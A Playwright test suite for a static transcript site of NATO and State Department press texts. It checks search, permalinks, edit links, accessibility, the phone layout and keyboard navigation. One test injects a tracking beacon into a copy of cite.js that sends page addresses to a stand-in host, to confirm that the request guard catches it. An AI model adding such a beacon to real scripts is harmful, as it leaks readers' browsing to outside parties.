"""The built site as a reader meets it: search, turn permalinks, edit links, offline pages,
the small screen, accessibility (axe-core) and the keyboard.

Every page opened through the `open_page` fixture also fails its test on a console error, a
failed request or a request that would leave 127.0.0.1 (see conftest.py).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from onrecord import settings
from tools import browser as harness

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]

pytestmark = pytest.mark.browser

PRESS = "2022-06-01-stoltenberg-blinken-press-conference"
TRANSCRIPTS = [
    PRESS,
    "2022-04-06-blinken-stoltenberg-before-meeting",
    "2022-06-stoltenberg-washington-visit-article",
]
HOME = ""
TRANSCRIPT = f"transcripts/{PRESS}/"
SPEAKER = "speakers/jens-stoltenberg/"
EVENT = "events/2022-06-stoltenberg-washington-visit/"
READER_PAGES = {"home": HOME, "transcript": TRANSCRIPT, "speaker": SPEAKER, "event": EVENT}
ALL_PAGES = {
    **READER_PAGES,
    "article": f"transcripts/{TRANSCRIPTS[2]}/",
    "meeting": f"transcripts/{TRANSCRIPTS[1]}/",
    "transcripts": "transcripts/",
    "speakers": "speakers/",
    "events": "events/",
    "about": "about/",
    "search": "search/?q=nato+unity&year=2022",
}
# From Stoltenberg's answer on Russia's nuclear exercises (turn t-005).
PHRASE = "nuclear sabre rattling rhetoric is dangerous"

# Is the element at the viewport point of its own centre the element itself (or inside it)?
# True only when it is scrolled into view and not hidden under the sticky header.
JS_UNCOVERED = """el => {
  const r = el.getBoundingClientRect();
  if (r.bottom <= 0 || r.top >= innerHeight || r.height === 0) return false;
  const x = r.left + r.width / 2, y = r.top + r.height / 2;
  const hit = document.elementFromPoint(x, y);
  return hit !== null && (hit === el || el.contains(hit));
}"""


SEARCH_SETTLED = (
    "document.querySelector('.md-search-result__list').getAttribute('aria-busy') === 'false'"
)


def wait_for_search_index(page) -> None:
    """The search dialog is there (its index loads when it opens)."""
    page.wait_for_function(
        """() => {
      const meta = document.querySelector('.md-search-result__meta');
      return meta && !/initializing/i.test(meta.textContent);
    }""",
        timeout=10_000,
    )


# The dialog shows the results of what is typed (it names the query in data-query when done).
RESULTS_SHOWN = """() => {
  const list = document.querySelector('.md-search-result__list');
  const input = document.querySelector('.md-search__input');
  return list && list.getAttribute('aria-busy') === 'false' && list.getAttribute('data-query') === input.value.trim();
}"""


def turn_text(page, anchor: str) -> str:
    """The text of a turn: its heading and everything up to the next heading."""
    return page.evaluate(
        """id => {
      let el = document.getElementById(id), text = el.innerText;
      if (el.parentElement.classList.contains("or-turn-head")) el = el.parentElement;  // heading + Cite
      const heading = e => /^H[1-3]$/.test(e.tagName) || e.classList.contains("or-turn-head");
      for (el = el.nextElementSibling; el && !heading(el); el = el.nextElementSibling)
        text += "\\n" + el.innerText;
      return text;
    }""",
        anchor,
    )


# (a) search ---------------------------------------------------------------------------------


def test_search_finds_a_turn_and_lands_on_it(open_page):
    page, _ = open_page(HOME)
    wait_for_search_index(page)
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type(PHRASE, delay=5)
    pattern = re.compile(rf"/transcripts/{PRESS}/(\?[^#]*)?#(t-\d{{3}})$")
    # the section that holds the phrase is the top hit of its page, so it is listed open
    found = page.locator(f'a.md-search-result__link[href*="{PRESS}/"][href*="#t-"]').first
    found.wait_for(state="visible", timeout=10_000)
    # the dialog goes on asking earlier years until it has a screenful; a reader clicks once it has
    page.wait_for_function(SEARCH_SETTLED, timeout=10_000)
    href = found.get_attribute("href")
    m = pattern.search(href)
    assert m, f"search result link {href!r} does not go to a turn of {PRESS}"
    anchor = m.group(2)
    assert "sabre rattling" in found.inner_text()  # the result's excerpt shows the phrase

    found.click()
    page.wait_for_url(re.compile(rf"/transcripts/{PRESS}/.*#{anchor}$"))
    page.wait_for_load_state("load")
    heading = page.locator(f"h3#{anchor}")
    heading.wait_for()
    page.wait_for_function(JS_UNCOVERED, arg=heading.element_handle(), timeout=5_000)
    assert "Jens Stoltenberg" in heading.inner_text()
    assert PHRASE in turn_text(page, anchor).replace("\u2019", "'")


def test_search_opens_from_the_header_button_on_a_phone(open_page):
    # On a phone the search box waits, off screen, behind the header's search button.
    page, _ = open_page(HOME, width=390, height=844, mobile=True)
    query = page.get_by_role("textbox", name="Search")
    wait_for_search_index(page)
    page.locator('label.md-header__button[for="__search"]').click()
    page.wait_for_function(JS_UNCOVERED, arg=query.element_handle(), timeout=5_000)
    query.press_sequentially("sabre rattling")  # Material searches on key events
    found = page.locator(f'a.md-search-result__link[href*="{PRESS}/"][href*="#t-"]').first
    found.wait_for(state="visible", timeout=10_000)
    # the dialog goes on asking earlier years until it has a screenful; a reader clicks once it has
    page.wait_for_function(SEARCH_SETTLED, timeout=10_000)


# (b) turn permalinks ------------------------------------------------------------------------


def test_turn_permalink_scrolls_to_and_highlights_the_turn(open_page):
    page, _ = open_page(TRANSCRIPT + "#t-005")
    target = page.locator("h3#t-005")
    target.wait_for()
    page.wait_for_function(JS_UNCOVERED, arg=target.element_handle(), timeout=5_000)
    assert page.evaluate("document.querySelector(':target')?.id") == "t-005"
    assert target.evaluate("el => el.matches(':target')")
    assert page.evaluate("scrollY") > 0

    def background(sel):
        return page.locator(sel).evaluate("el => getComputedStyle(el).backgroundColor")

    assert background("h3#t-005") != background("h3#t-004")
    assert background("h3#t-004") == background("h3#t-006")

    # its permalink anchor is the same address
    link = target.locator("a.headerlink")
    assert link.get_attribute("href") == "#t-005"


# quotes and versions --------------------------------------------------------------------------


def test_a_news_quote_links_to_its_turn_and_back(open_page):
    page, _ = open_page(ALL_PAGES["article"] + "#q-002")
    # “I am confident that we will find a united way forward.” — Stoltenberg, press conference
    found = (
        page.locator(".or-turn-head:has(> h3#q-002) ~ p a")
        .filter(has_text="Press conference by NATO Secretary General")
        .first
    )
    assert re.search(rf"{PRESS}/#t-001$", found.get_attribute("href"))
    found.click()
    page.wait_for_url(re.compile(rf"{PRESS}/#t-001$"))
    turn = page.locator("h3#t-001")
    page.wait_for_function(JS_UNCOVERED, arg=turn.element_handle(), timeout=5_000)
    back = page.locator("a", has_text="q-002").first
    assert back.get_attribute("href").endswith(f"{TRANSCRIPTS[2]}/#q-002")
    back.click()
    page.wait_for_url(re.compile(r"#q-002$"))
    assert page.evaluate("document.querySelector(':target')?.id") == "q-002"


def test_two_versions_of_the_press_conference_are_compared(open_page):
    page, _ = open_page("events/2022-06-01-blinken-stoltenberg-press-conference/")
    text = page.locator("article").inner_text()
    assert "Versions compared" in text
    # the State Department's text has the Secretary's opening statement; NATO's leaves it out
    only_state = page.locator("h3", has_text="Only in ge.usembassy.gov: Antony J. Blinken")
    assert only_state.count() == 1
    assert (
        "Good morning, everyone"
        in only_state.locator("xpath=following-sibling::blockquote[1]").inner_text()
    )
    assert page.locator("h3", has_text="Only in www.nato.int: Jens Stoltenberg").count() >= 1


# (c) edit links -----------------------------------------------------------------------------


@pytest.mark.parametrize("tid", TRANSCRIPTS)
def test_edit_links_open_the_cleaned_source(open_page, tid):
    repo = settings.load(ROOT).repo_url
    assert re.fullmatch(r"https://github\.com/[^/]+/onrecord", repo)
    expected = f"{repo}/edit/main/source_texts/transcripts/{tid}.txt"
    assert (ROOT / "source_texts" / "transcripts" / f"{tid}.txt").is_file()

    page, _ = open_page(f"transcripts/{tid}/")
    edit = page.locator("a.md-content__button[rel=edit]")
    assert edit.count() == 1
    assert edit.get_attribute("href") == expected
    assert edit.is_visible()
    suggest = page.get_by_role("link", name="Suggest a correction")
    assert suggest.get_attribute("href") == expected
    assert suggest.is_visible()


# (d) offline pages --------------------------------------------------------------------------


@pytest.mark.parametrize("name", ALL_PAGES)
def test_page_is_quiet_and_local(open_page, name):
    page, traffic = open_page(ALL_PAGES[name])
    page.wait_for_load_state("networkidle")
    assert page.title().endswith("On the Record")
    assert traffic.requests, "the page made no request at all"
    assert any("search" in u for u in traffic.requests), "the search worker was not loaded"
    outside = [u for u in traffic.requests if not harness.is_local(u)]
    assert not outside, f"requests leaving 127.0.0.1: {outside}"
    assert not traffic.problems(), "\n".join(traffic.problems())


def test_a_beacon_added_to_a_script_is_caught(open_page, site_dir, tmp_path):
    """What a pull request that makes docs/assets/cite.js phone home meets: the request check
    every test here runs (open_page) names the request, and the request never leaves."""
    copy = tmp_path / "site"
    shutil.copytree(site_dir, copy)
    cite = copy / "assets" / "cite.js"
    cite.write_text(
        cite.read_text(encoding="utf-8") + "\nnavigator.sendBeacon('https://beacon.example/b', "
        "location.href);\nnew Image().src = 'https://beacon.example/i';\n",
        encoding="utf-8",
    )
    with harness.serve(copy) as base:
        page, traffic = open_page(TRANSCRIPT, base=base)
        page.wait_for_load_state("networkidle")
        page.close()
    problems = traffic.problems()
    assert "request leaving 127.0.0.1: https://beacon.example/b" in problems, problems
    assert "request leaving 127.0.0.1: https://beacon.example/i" in problems, problems
    traffic.remote.clear()  # found, as it had to be: the fixture's own check has nothing left to fail on
    traffic.errors.clear()


def test_without_axe_core_only_the_accessibility_tests_are_skipped(site_dir, tmp_path):
    """axe-core missing skips the axe tests and nothing else: the request checks still run."""
    test = HERE / "test_site.py"
    env = {
        **os.environ,
        "ONRECORD_AXE": str(tmp_path / "no-axe.min.js"),
        "ONRECORD_SITE_DIR": str(site_dir),
    }
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-q",
            "-rs",
            "-p",
            "no:cacheprovider",
            f"{test}::test_page_is_quiet_and_local[transcript]",
            f"{test}::test_a_beacon_added_to_a_script_is_caught",
            f"{test}::test_axe_finds_no_serious_violation[transcript-light]",
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert "2 passed, 1 skipped" in done.stdout, done.stdout[-3000:] + done.stderr[-2000:]
    assert "axe-core is not installed" in done.stdout


# (e) the small screen -----------------------------------------------------------------------


@pytest.mark.parametrize("name", [*READER_PAGES, "article", "search"])
def test_no_horizontal_scroll_on_a_phone(open_page, name):
    page, _ = open_page(ALL_PAGES[name], width=390, height=844, mobile=True)
    width, inner = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert inner == 390
    if width > inner:
        wide = page.evaluate("""() => [...document.querySelectorAll('body *')]
          .filter(el => el.getBoundingClientRect().right > innerWidth + 1)
          .slice(0, 5).map(el => el.tagName + '.' + el.className)""")
        pytest.fail(f"page is {width}px wide at a {inner}px viewport; too wide: {wide}")


# (f) axe-core -------------------------------------------------------------------------------


def serious_violations(page, axe: Path, **options) -> str:
    """axe-core's serious and critical findings on the page as it is now, one per line."""
    page.add_script_tag(path=str(axe))
    found = page.evaluate(
        """async options => {
      const r = await axe.run(document, {resultTypes: ['violations'], ...options});
      return r.violations.map(v => ({id: v.id, impact: v.impact, help: v.help,
        nodes: v.nodes.slice(0, 4).map(n => n.target.join(' ') + ' :: ' + n.failureSummary)}));
    }""",
        options,
    )
    return "\n".join(
        f"{v['impact']} {v['id']}: {v['help']}\n    " + "\n    ".join(v["nodes"])
        for v in found
        if v["impact"] in ("serious", "critical")
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", READER_PAGES)
def test_axe_finds_no_serious_violation(open_page, axe, name, scheme):
    page, _ = open_page(READER_PAGES[name], color_scheme=scheme)
    # Material picks the palette whose media query matches the reader's preference
    expected = {"light": "default", "dark": "slate"}[scheme]
    assert page.locator("body").get_attribute("data-md-color-scheme") == expected
    bad = serious_violations(page, axe)
    assert not bad, bad


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_violation_in_open_search(open_page, axe, scheme):
    page, _ = open_page(HOME, color_scheme=scheme)
    wait_for_search_index(page)
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type(
        "Stoltenberg", delay=10
    )  # turns, the speaker beside them, the link to all results
    page.wait_for_function(RESULTS_SHOWN, timeout=10_000)
    assert page.locator(".md-search-result__item").count() >= 3
    assert page.locator(".or-search-names a", has_text="Jens Stoltenberg").count() == 1
    bad = serious_violations(page, axe)
    assert not bad, bad


def test_a_table_too_wide_for_the_screen_is_a_named_keyboard_region(open_page, axe):
    # At 260px even the phone layout's tables overflow: each scrolls inside its wrapper,
    # which the theme override makes a named region reachable and scrollable by keyboard.
    page, _ = open_page(SPEAKER, width=260, height=700, mobile=True)
    page.wait_for_load_state("load")
    wraps = page.locator(".md-typeset__scrollwrap")
    page.wait_for_function(
        """() => [...document.querySelectorAll('.md-typeset__scrollwrap')]
      .some(w => w.getAttribute('tabindex') === '0')""",
        timeout=5_000,
    )
    overflowing = [w for w in wraps.all() if w.evaluate("w => w.scrollWidth > w.clientWidth")]
    assert overflowing, "no table overflows at 260px: the test no longer tests anything"
    for wrap in overflowing:
        assert wrap.get_attribute("tabindex") == "0"
        assert wrap.get_attribute("role") == "region"
        assert wrap.get_attribute("aria-label").endswith("table, scrolls sideways")
    assert any(w.get_attribute("aria-label").startswith("Appearances") for w in overflowing)
    wrap = overflowing[0]
    wrap.focus()
    page.keyboard.press("ArrowRight")
    page.wait_for_function("w => w.scrollLeft > 0", arg=wrap.element_handle(), timeout=2_000)
    bad = serious_violations(page, axe, runOnly=["scrollable-region-focusable"])
    assert not bad, bad


def test_a_table_that_fits_adds_no_tab_stop(open_page):
    page, _ = open_page(SPEAKER, width=390, height=844, mobile=True)
    page.wait_for_load_state("load")
    wraps = page.locator(".md-typeset__scrollwrap")
    assert wraps.count() >= 2
    for wrap in wraps.all():
        assert wrap.evaluate("w => w.scrollWidth <= w.clientWidth"), "a table overflows at 390px"
        assert wrap.get_attribute("tabindex") is None


# (g) keyboard -------------------------------------------------------------------------------

FOCUSED = """() => {
  const el = document.activeElement;
  return {cls: String(el.className), href: el.getAttribute('href'), tabIndex: el.tabIndex};
}"""
# The focused element is drawn: it has a size, is not hidden and has finished fading in.
FOCUSED_SHOWN = """() => {
  const el = document.activeElement, r = el.getBoundingClientRect(), s = getComputedStyle(el);
  return r.width > 0 && r.height > 0 && s.visibility !== 'hidden' && s.opacity === '1'
    && r.bottom > 0 && r.top < innerHeight;
}"""


def test_keyboard_reaches_search_and_turn_permalinks(open_page):
    page, _ = open_page(TRANSCRIPT)
    seen = []
    reached_search = reached_headerlink = None
    for n in range(1, 151):
        page.keyboard.press("Tab")
        info = page.evaluate(FOCUSED)
        seen.append(info)
        if n == 1:
            # the first stop skips the header and navigation, and shows itself
            assert "md-skip" in info["cls"], info
            page.wait_for_function(FOCUSED_SHOWN, timeout=2_000)
        if reached_search is None and "md-search__input" in info["cls"]:
            reached_search = n
            assert info["tabIndex"] >= 0, info
            page.wait_for_function(FOCUSED_SHOWN, timeout=2_000)
        if "headerlink" in info["cls"] and re.fullmatch(r"#t-\d{3}", info["href"] or ""):
            reached_headerlink = n
            assert info["tabIndex"] >= 0, info
            # hidden until hovered or focused: focus must reveal it, on screen
            page.wait_for_function(FOCUSED_SHOWN, timeout=2_000)
            break
    assert reached_search, f"Tab never reached the search box: {seen}"
    assert reached_headerlink, f"Tab never reached a turn permalink within {len(seen)} presses"
    assert reached_search < reached_headerlink

    # Enter on the focused permalink makes its turn the target
    href = seen[-1]["href"]
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(re.escape(href) + "$"))
    assert page.evaluate("document.querySelector(':target')?.id") == href[1:]
    page.wait_for_function(
        JS_UNCOVERED, arg=page.locator(f"h3{href}").element_handle(), timeout=5_000
    )

    # "/" opens the search from anywhere; the arrow keys walk its results; Enter follows one
    wait_for_search_index(page)
    # Material closes the drawer and the search 125 ms after any change of the address's
    # hash (the permalink just followed): a reader's pause lets that pass first
    page.wait_for_timeout(250)
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.classList.contains('md-search__input')")
    assert page.locator("#__search").is_checked(), "the search dialog did not open"
    page.keyboard.type("sabre rattling", delay=10)
    page.locator(f'a.md-search-result__link[href*="{PRESS}/"]:visible').first.wait_for(
        timeout=10_000
    )
    page.wait_for_function(
        SEARCH_SETTLED, timeout=10_000
    )  # speakers come first, documents as they arrive
    for _ in range(8):
        page.keyboard.press("ArrowDown")
        href = page.evaluate("document.activeElement.getAttribute('href') || ''")
        if re.search(rf"{PRESS}/.*#t-\d{{3}}$", href):
            break
    else:
        pytest.fail("the arrow keys never reached the turn's search result")
    page.keyboard.press("Enter")  # on this same page: the address's hash changes, no new load
    page.wait_for_url(re.compile(re.escape(href) + "$"))
    page.wait_for_function(
        "id => document.querySelector(':target')?.id === id", arg=href.rsplit("#", 1)[1]
    )
